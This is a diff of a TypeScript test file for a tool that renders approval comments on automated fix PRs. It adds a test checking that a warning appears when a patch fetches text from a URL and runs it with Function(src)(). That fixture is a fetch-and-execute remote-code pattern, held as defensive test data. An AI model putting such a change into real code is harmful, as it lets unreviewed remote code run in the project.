@@ -28,20 +28,32 @@ describe('comment when the log tried to steer automated tools', () => {
 });
 
 describe('approval request for a fix PR', () => {
+  const waitingFor = (diff: string) => ({
+    ...incident,
+    analysis: { ...incident.analysis!, injection: undefined, proposedAction: 'open_fix_pr' as const, patch: { diff, files: ['src/tax.ts'] } },
+    plan: { action: 'open_fix_pr' as const, proposed: 'open_fix_pr' as const, reasons: ['open a fix PR'], requiresApproval: true, dryRun: false, experiment: null, plannedAt: '2026-11-20T10:00:00Z' },
+    approval: { status: 'pending' as const, requestedAt: '2026-11-20T10:00:00Z' },
+  });
+
   it('shows the diff that would be committed', () => {
     // Prepare
     const diff = ['--- a/src/tax.ts', '+++ b/src/tax.ts', '@@ -1 +1 @@', '-export const rate = 0.2;', '+export const rate = 0.19;', ''].join('\n');
-    const waiting = {
-      ...incident,
-      analysis: { ...incident.analysis!, injection: undefined, proposedAction: 'open_fix_pr' as const, patch: { diff, files: ['src/tax.ts'] } },
-      plan: { action: 'open_fix_pr' as const, proposed: 'open_fix_pr' as const, reasons: ['open a fix PR'], requiresApproval: true, dryRun: false, experiment: null, plannedAt: '2026-11-20T10:00:00Z' },
-      approval: { status: 'pending' as const, requestedAt: '2026-11-20T10:00:00Z' },
-    };
     // Act
-    const body = renderComment(waiting as typeof incident);
+    const body = renderComment(waitingFor(diff) as typeof incident);
     // Assert
     expect(body).toContain('waiting for approval');
     expect(body).toContain('```diff\n--- a/src/tax.ts');
     expect(body).toContain('+export const rate = 0.19;');
+    expect(body).not.toContain('[!WARNING]');
+  });
+
+  it('warns the approver when the change downloads on one line and runs code on another', () => {
+    // Prepare: what the patch check cannot refuse without refusing honest tests that fetch and spawn.
+    const diff = ['--- a/src/tax.ts', '+++ b/src/tax.ts', '@@ -1 +1,3 @@', '-export const rate = 0.2;', '+const src = await (await fetch(CONFIG_URL)).text();', '+Function(src)();', '+export const rate = 0.19;', ''].join('\n');
+    // Act
+    const body = renderComment(waitingFor(diff) as typeof incident);
+    // Assert
+    expect(body).toContain('> [!WARNING]\n> This change downloads something and, on another line, runs code');
+    expect(body.indexOf('[!WARNING]')).toBeLessThan(body.indexOf('```diff'));
   });
 });
